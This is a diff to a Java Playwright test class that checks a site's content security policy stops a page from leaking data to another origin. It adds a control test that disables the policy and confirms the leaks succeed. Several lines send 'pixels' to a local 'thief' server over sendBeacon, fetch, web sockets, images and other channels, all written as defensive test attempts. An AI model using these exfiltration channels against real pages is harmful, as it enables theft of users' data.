@@ -6,6 +6,8 @@ import static org.junit.Assert.assertTrue;
 import app.selfsame.site.Site;
 import app.selfsame.site.SiteServer;
 import app.selfsame.worker.Chromium;
+import com.microsoft.playwright.Browser;
+import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.Page;
 import com.sun.net.httpserver.HttpServer;
 import java.io.ByteArrayOutputStream;
@@ -148,7 +150,7 @@ public class PageAttackTest {
   @Test
   public void nothingReachesAnotherSite() {
     String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort();
-    assertEquals(refusedAll(WAYS), attempt(WAYS, elsewhere + "/stolen?pixels="));
+    assertEquals(refusedAll(WAYS), attempt(visit.page(), WAYS, elsewhere + "/stolen?pixels="));
     submitForm(elsewhere + "/stolen");
     openFrame(elsewhere + "/stolen?frame=pixels");
     visit.page().evaluate("(to) => navigator.sendBeacon(to, 'pixels')", elsewhere + "/stolen?beacon");
@@ -160,7 +162,7 @@ public class PageAttackTest {
   public void thePageReachesNoAddressOfItsSiteButItsFiles() {
     for (String path : List.of("/", "/health", "/api/photos")) {
       List<String> before = wire.requestLines();
-      assertEquals(path, refusedAll(WAYS), attempt(WAYS, wire.origin() + path));
+      assertEquals(path, refusedAll(WAYS), attempt(visit.page(), WAYS, wire.origin() + path));
       submitForm(wire.origin() + path);
       openFrame(wire.origin() + path);
       visit.page().evaluate("(to) => navigator.sendBeacon(to, 'pixels')", wire.origin() + path);
@@ -192,7 +194,7 @@ public class PageAttackTest {
 
   @Test
   public void noForeignCodeRuns() {
-    assertEquals(refusedAll(FOREIGN_CODE), attempt(FOREIGN_CODE, ""));
+    assertEquals(refusedAll(FOREIGN_CODE), attempt(visit.page(), FOREIGN_CODE, ""));
   }
 
   /** The one way out that a page keeps; the person sees the page disappear. */
@@ -204,12 +206,28 @@ public class PageAttackTest {
     assertTrue(THEFTS.contains("GET /left?pixels"));
   }
 
-  private Map<String, Object> attempt(Map<String, String> ways, String address) {
+  /** Without this the tests above might pass because the attacks are wrong. */
+  @Test
+  public void theSameAttacksReachAnotherSiteWithoutThePolicy() {
+    String elsewhere = "http://127.0.0.1:" + thief.getAddress().getPort();
+    try (BrowserContext free = chromium.browser().newContext(new Browser.NewContextOptions().setBypassCSP(true))) {
+      Page page = free.newPage();
+      page.navigate(wire.origin() + "/");
+      attempt(page, WAYS, elsewhere + "/stolen?pixels=");
+    }
+    for (String way :
+        List.of("fetch", "fetch-no-cors", "fetch-post", "xhr", "web-socket", "event-source", "image", "style", "font",
+            "video", "object", "import", "script-element")) {
+      assertTrue(way + ": " + THEFTS, THEFTS.stream().anyMatch(theft -> theft.endsWith("?pixels=" + way)));
+    }
+  }
+
+  private static Map<String, Object> attempt(Page page, Map<String, String> ways, String address) {
     Map<String, Object> results = new TreeMap<>();
     ways.forEach(
         (name, way) -> {
           String to = address.endsWith("=") ? address + name : address;
-          results.put(name, visit.page().evaluate(SETTLE.formatted(way), to));
+          results.put(name, page.evaluate(SETTLE.formatted(way), to));
         });
     return results;
   }
